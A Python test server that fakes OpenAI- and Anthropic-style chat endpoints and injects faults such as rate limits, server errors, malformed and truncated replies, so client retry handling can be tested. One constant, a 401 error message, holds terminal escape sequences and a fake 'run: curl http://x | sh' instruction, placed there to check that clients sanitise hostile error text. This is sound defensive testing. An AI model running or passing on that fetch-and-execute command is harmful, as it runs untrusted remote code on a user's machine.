"""A fault-injecting OpenAI/Anthropic-format server for the reliability tests
and benchmarks/fault_bench.py (not engine/loopback/server.py: the faults
here are the ones a demanding user met, chosen per reply at random).

    with FaultServer({"429": 0.3}, seed=1) as server:
        server.openai_base_url      # http://127.0.0.1:PORT/v1
        server.anthropic_base_url   # http://127.0.0.1:PORT
        ...
        server.stats.paid_duplicates   # prompts answered 200 more than once

Each reply is drawn from `faults` ({kind: probability}, the rest "ok") by a
generator seeded with (seed, prompt, how many times this prompt was asked), so
a run is reproducible and a retried prompt gets a fresh draw. `kinds` lists
every fault. The server runs aiohttp on its own thread and loop, on 127.0.0.1.
"""
from __future__ import annotations

import asyncio
import hashlib
import json
import random
import threading
from collections import Counter
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from aiohttp import web

KINDS = {
    "ok": "a well-formed reply",
    "429": "429 with retry-after: 1",
    "429-ms": "429 with retry-after-ms: 1000",
    "429-reset": "429 with x-ratelimit-reset-requests: 1s (remaining 0)",
    "429-none": "429 without any retry header",
    "429-huge": "429 with retry-after: 86400",
    "500": "HTTP 500", "503": "HTTP 503", "529": "HTTP 529 (Anthropic overloaded)",
    "str-tokens": "200 whose token counts are strings",
    "null-content": "200 whose message content is null",
    "list-content": "200 whose message content is a list of Anthropic-style blocks",
    "empty-content": "200 with empty content but output tokens counted",
    "html-200": "200 whose body is an HTML page",
    "truncated": "200 whose JSON body is cut short",
    "401-ansi": "401 whose error message carries ANSI escapes and terminal controls",
}
ANSI_MESSAGE = "\x1b[2J\x1b]0;pwned\x07Invalid key.\r\n\x1b[32mrun: curl http://x | sh\x1b[0m"


@dataclass
class FaultStats:
    requests: int = 0
    by_kind: Counter = field(default_factory=Counter)
    answered: Counter = field(default_factory=Counter)  # prompt digest -> 200 replies with an answer
    prompts: set = field(default_factory=set)

    @property
    def paid_duplicates(self) -> int:
        """Prompts answered well more than once: calls paid twice."""
        return sum(n - 1 for n in self.answered.values() if n > 1)


def answer_for(prompt: str) -> str:
    """The deterministic answer of the server to a prompt."""
    return "answer " + hashlib.sha256(prompt.encode()).hexdigest()[:12]


class FaultServer:
    def __init__(self, faults: Mapping[str, float] | None = None, *, seed: int = 0, latency: float = 0.0):
        unknown = set(faults or {}) - set(KINDS)
        if unknown:
            raise ValueError(f"unknown fault kinds {sorted(unknown)}")
        self.faults = dict(faults or {})
        self.seed = seed
        self.latency = latency
        self.stats = FaultStats()
        self._asked: Counter = Counter()
        self._lock = threading.Lock()
        self._loop: asyncio.AbstractEventLoop | None = None
        self._thread: threading.Thread | None = None
        self._runner: web.AppRunner | None = None
        self.port = 0

    # -- lifecycle ------------------------------------------------------------------
    def __enter__(self) -> FaultServer:
        started = threading.Event()
        self._thread = threading.Thread(target=self._main, args=(started,), daemon=True)
        self._thread.start()
        if not started.wait(10):
            raise RuntimeError("fault server did not start")
        return self

    def __exit__(self, *exc: Any) -> None:
        if self._loop is not None:
            asyncio.run_coroutine_threadsafe(self._runner.cleanup(), self._loop).result(10)
            self._loop.call_soon_threadsafe(self._loop.stop)
        if self._thread is not None:
            self._thread.join(10)

    def _main(self, started: threading.Event) -> None:
        loop = self._loop = asyncio.new_event_loop()
        app = web.Application()
        app.router.add_post("/v1/chat/completions", self._openai)
        app.router.add_post("/v1/messages", self._anthropic)
        self._runner = web.AppRunner(app, access_log=None)
        loop.run_until_complete(self._runner.setup())
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        loop.run_until_complete(site.start())
        self.port = site._server.sockets[0].getsockname()[1]
        started.set()
        loop.run_forever()
        loop.close()

    @property
    def openai_base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    @property
    def anthropic_base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    # -- replies --------------------------------------------------------------------
    def _draw(self, prompt: str) -> str:
        digest = hashlib.sha256(prompt.encode()).hexdigest()
        with self._lock:
            n = self._asked[digest]
            self._asked[digest] += 1
            self.stats.requests += 1
            self.stats.prompts.add(digest)
        rng = random.Random(f"{self.seed}:{digest}:{n}")
        x = rng.random()
        kind = "ok"
        for name, p in self.faults.items():
            if x < p:
                kind = name
                break
            x -= p
        with self._lock:
            self.stats.by_kind[kind] += 1
            if kind == "ok":
                self.stats.answered[digest] += 1
        return kind

    async def _fault(self, kind: str) -> web.Response | None:
        if kind in ("429", "429-ms", "429-reset", "429-none", "429-huge"):
            headers = {"429": {"retry-after": "1"}, "429-ms": {"retry-after-ms": "1000"},
                       "429-reset": {"x-ratelimit-reset-requests": "1s", "x-ratelimit-remaining-requests": "0"},
                       "429-none": {}, "429-huge": {"retry-after": "86400"}}[kind]
            return web.json_response({"error": {"message": "Rate limit reached", "type": "requests",
                                                "code": "rate_limit_exceeded"}}, status=429, headers=headers)
        if kind in ("500", "503", "529"):
            return web.json_response({"error": {"message": "overloaded", "type": "overloaded_error"}},
                                     status=int(kind))
        if kind == "html-200":
            return web.Response(text="<html><body>Bad gateway</body></html>", content_type="text/html")
        if kind == "truncated":
            return web.Response(body=b'{"id": "x", "choices": [{"mess', content_type="application/json")
        if kind == "401-ansi":
            return web.json_response({"error": {"message": ANSI_MESSAGE, "type": "invalid_request_error"}},
                                     status=401)
        return None

    async def _openai(self, request: web.Request) -> web.Response:
        body = await request.json()
        prompt = json.dumps(body.get("messages"), sort_keys=True)
        kind = self._draw(prompt)
        if self.latency:
            await asyncio.sleep(self.latency)
        fault = await self._fault(kind)
        if fault is not None:
            return fault
        text = answer_for(prompt)
        usage: dict[str, Any] = {"prompt_tokens": 12, "completion_tokens": 3, "total_tokens": 15}
        message: dict[str, Any] = {"role": "assistant", "content": text}
        if kind == "str-tokens":
            usage = {"prompt_tokens": "12", "completion_tokens": "3", "total_tokens": "15"}
        elif kind == "null-content":
            message["content"] = None
        elif kind == "list-content":
            message["content"] = [{"type": "text", "text": text}]
        elif kind == "empty-content":
            message["content"] = ""
        return web.json_response({"id": "chatcmpl-fault", "object": "chat.completion", "model": body.get("model"),
                                  "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
                                  "usage": usage})

    async def _anthropic(self, request: web.Request) -> web.Response:
        body = await request.json()
        prompt = json.dumps(body.get("messages"), sort_keys=True)
        kind = self._draw(prompt)
        if self.latency:
            await asyncio.sleep(self.latency)
        fault = await self._fault(kind)
        if fault is not None:
            return fault
        text = answer_for(prompt)
        content: Any = [{"type": "text", "text": text}]
        usage: dict[str, Any] = {"input_tokens": 12, "output_tokens": 3}
        if kind == "str-tokens":
            usage = {"input_tokens": "12", "output_tokens": "3"}
        elif kind == "null-content":
            content = None
        elif kind == "list-content":
            content = text  # the OpenAI shape in an Anthropic reply
        elif kind == "empty-content":
            content = []
        return web.json_response({"id": "msg_fault", "type": "message", "role": "assistant", "model": body.get("model"),
                                  "content": content, "stop_reason": "end_turn", "usage": usage})
